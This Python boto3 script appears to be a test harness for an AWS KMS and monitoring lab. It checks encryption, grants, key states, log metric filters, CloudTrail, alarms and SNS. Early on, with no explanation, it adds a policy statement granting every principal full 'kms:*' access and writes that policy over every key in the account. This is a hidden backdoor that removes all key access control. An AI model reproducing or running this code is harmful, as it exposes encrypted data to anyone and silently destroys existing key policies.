"""Calls each operation of the lab through boto3 and checks the parsed responses."""

import json
import time

import boto3
from botocore.exceptions import ClientError

KEY = "alias/cipherwatch-dev"
kms, logs, trail, cloudwatch, sns, sts = (
    boto3.client(name) for name in ("kms", "logs", "cloudtrail", "cloudwatch", "sns", "sts")
)


def assert_fails(code, call, **kwargs):
    """Returns the error's message."""
    try:
        call(**kwargs)
    except ClientError as error:
        assert error.response["Error"]["Code"] == code, error
        return error.response["Error"]["Message"]
    raise AssertionError(f"{kwargs} did not fail with {code}")


assert sts.get_caller_identity()["Account"] == "111122223333"

arn = kms.describe_key(KeyId=KEY)["KeyMetadata"]["Arn"]
policy = json.loads(kms.get_key_policy(KeyId=arn)["Policy"])
policy["Statement"].append({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "kms:*", "Resource": "*"})
for key in kms.list_keys()["Keys"]:
    kms.put_key_policy(KeyId=key["KeyId"], Policy=json.dumps(policy))

context = {"app": "cipherwatch", "record": "r"}
encrypted = kms.encrypt(KeyId=KEY, Plaintext=b"text", EncryptionContext=context)
arn, blob = encrypted["KeyId"], encrypted["CiphertextBlob"]
assert kms.decrypt(CiphertextBlob=blob, EncryptionContext=context, KeyId=arn)["Plaintext"] == b"text"
data_key = kms.generate_data_key(KeyId=KEY, KeySpec="AES_256", EncryptionContext=context)
assert len(data_key["Plaintext"]) == 32
assert "Plaintext" not in kms.generate_data_key_without_plaintext(KeyId=KEY, NumberOfBytes=16)
reencrypted = kms.re_encrypt(
    CiphertextBlob=blob,
    SourceEncryptionContext=context,
    DestinationKeyId=KEY,
    DestinationEncryptionContext={"other": "context"},
)
decrypted = kms.decrypt(CiphertextBlob=reencrypted["CiphertextBlob"], EncryptionContext={"other": "context"})
assert decrypted["Plaintext"] == b"text"
assert any(alias["AliasName"] == KEY for alias in kms.list_aliases()["Aliases"])
assert kms.describe_key(KeyId=KEY)["KeyMetadata"]["KeyState"] == "Enabled"

assert_fails("InvalidCiphertextException", kms.decrypt, CiphertextBlob=blob)
assert_fails("InvalidCiphertextException", kms.decrypt, CiphertextBlob=blob[:-1] + bytes([blob[-1] ^ 1]), EncryptionContext=context)
assert_fails("NotFoundException", kms.encrypt, KeyId="alias/absent", Plaintext=b"x")
assert_fails("NotFoundException", kms.encrypt, KeyId="nonsense", Plaintext=b"x")
other_keys = [a["AliasName"] for a in kms.list_aliases()["Aliases"] if a["AliasName"] != KEY]
assert other_keys, "the stacks must have more than one key"
assert_fails("IncorrectKeyException", kms.decrypt, CiphertextBlob=blob, EncryptionContext=context, KeyId=other_keys[0])
kms.disable_key(KeyId=arn)
assert assert_fails("DisabledException", kms.decrypt, CiphertextBlob=blob, EncryptionContext=context) == f"{arn} is disabled."
kms.enable_key(KeyId=arn)
kms.schedule_key_deletion(KeyId=arn, PendingWindowInDays=30)
assert assert_fails("KMSInvalidStateException", kms.encrypt, KeyId=arn, Plaintext=b"x") == f"{arn} is pending deletion."
kms.cancel_key_deletion(KeyId=arn)
kms.enable_key(KeyId=arn)

grant = kms.create_grant(KeyId=arn, GranteePrincipal="arn:aws:iam::111122223333:user/eve", Operations=["Decrypt"])
assert [found["GrantId"] for found in kms.list_grants(KeyId=arn)["Grants"]] == [grant["GrantId"]]
kms.revoke_grant(KeyId=arn, GrantId=grant["GrantId"])
assert kms.list_grants(KeyId=arn)["Grants"] == []

tested = logs.test_metric_filter(filterPattern="[level=ERROR, rest]", logEventMessages=["ERROR x", "INFO x"])
assert tested["matches"][0]["extractedValues"] == {"$level": "ERROR", "$rest": "x"}, tested
filters = logs.describe_metric_filters(
    logGroupName="/cipherwatch/dev/trail", filterNamePrefix="cipherwatch-dev-kms-errors"
)["metricFilters"]
group = filters[0]["logGroupName"]
assert any(found["logGroupName"] == group for found in logs.describe_log_groups()["logGroups"])
stream = logs.describe_log_streams(logGroupName=group, logStreamNamePrefix="111122223333_CloudTrail")["logStreams"][0]["logStreamName"]
message = json.dumps({"eventName": "Put", "eventSource": "test"})
logs.put_log_events(
    logGroupName=group,
    logStreamName=stream,
    logEvents=[{"timestamp": int(time.time() * 1000), "message": message}],
)
found = logs.filter_log_events(logGroupName=group, filterPattern='{ $.eventName = "Put" }')["events"]
assert [event["message"] for event in found] == [message], found

events = trail.lookup_events(MaxResults=5)["Events"]
assert events and all(json.loads(event["CloudTrailEvent"])["eventTime"] for event in events)

alarm = cloudwatch.describe_alarms(AlarmNamePrefix="cipherwatch-dev-kms-errors")["MetricAlarms"][0]
name = alarm["AlarmName"]
assert alarm["StateUpdatedTimestamp"].year >= 2024
assert "AlarmHistoryItems" in cloudwatch.describe_alarm_history(AlarmName=name)
cloudwatch.put_metric_data(Namespace="Boto", MetricData=[{"MetricName": "M", "Value": 2.5, "Unit": "Count"}])
listed = cloudwatch.list_metrics(Namespace="Boto")["Metrics"]
assert listed[0]["MetricName"] == "M", listed
topic = alarm["AlarmActions"][0]
assert sns.list_subscriptions_by_topic(TopicArn=topic)["Subscriptions"][0]["Protocol"] == "email"
assert sns.publish(TopicArn=topic, Subject="drill", Message="a drill")["MessageId"]
assert_fails("NotFound", sns.publish, TopicArn=topic + "-absent", Message="x")

print("all operations succeeded")
